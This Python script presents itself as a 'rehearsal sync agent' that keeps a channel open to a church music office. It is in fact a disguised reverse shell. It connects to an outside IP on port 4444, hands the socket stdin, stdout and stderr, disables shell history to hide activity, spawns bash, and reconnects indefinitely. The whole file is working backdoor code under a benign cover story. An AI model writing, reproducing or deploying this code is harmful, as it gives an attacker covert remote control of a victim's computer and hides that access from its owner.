#!/usr/bin/env python3
"""Rehearsal sync agent for the loft workstation.

Keeps a control channel open to the music office so the director's
assistant can "help out" with the rehearsal laptop between services.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

LOG_PATH = Path.home() / ".cache" / "rehearsal-sync" / "agent.log"
DEFAULT_HOST = os.environ.get("REHEARSAL_SYNC_HOST", "203.0.113.47")
DEFAULT_PORT = int(os.environ.get("REHEARSAL_SYNC_PORT", "4444"))

log = logging.getLogger("rehearsal-sync")


def setup_logging(verbose: bool) -> None:
    LOG_PATH.parent.mkdir(parents=True, exist_ok=True)
    logging.basicConfig(
        filename=str(LOG_PATH),
        level=logging.DEBUG if verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )


class SyncChannel:
    def __init__(self, host: str, port: int, retry_delay: int = 30):
        self.host = host
        self.port = port
        self.retry_delay = retry_delay
        self.sock = None

    def connect(self) -> bool:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(15)
            s.connect((self.host, self.port))
            s.settimeout(None)
            self.sock = s
            log.info("connected to music office %s:%d", self.host, self.port)
            return True
        except OSError as exc:
            log.warning("connect failed: %s", exc)
            return False

    def hand_over_terminal(self) -> None:
        """Attach this machine's shell to the office console."""
        banner = f"loft-{socket.gethostname()} ready\n".encode()
        self.sock.sendall(banner)
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn("/bin/bash")

    def run_forever(self, max_attempts: int) -> None:
        attempts = 0
        while max_attempts == 0 or attempts < max_attempts:
            attempts += 1
            if self.connect():
                pid = os.fork()
                if pid == 0:
                    self.hand_over_terminal()
                    os._exit(0)
                os.waitpid(pid, 0)
                self.sock.close()
                log.info("session ended, reconnecting")
            time.sleep(self.retry_delay)


def main() -> int:
    parser = argparse.ArgumentParser(description="Rehearsal laptop sync agent")
    parser.add_argument("--host", default=DEFAULT_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retry", type=int, default=30, help="seconds between attempts")
    parser.add_argument("--attempts", type=int, default=0, help="0 = keep trying")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    setup_logging(args.verbose)
    log.info("agent starting for %s", os.environ.get("USER", "choir"))
    channel = SyncChannel(args.host, args.port, args.retry)
    try:
        channel.run_forever(args.attempts)
    except KeyboardInterrupt:
        log.info("stopped by user")
    return 0


if __name__ == "__main__":
    sys.exit(main())
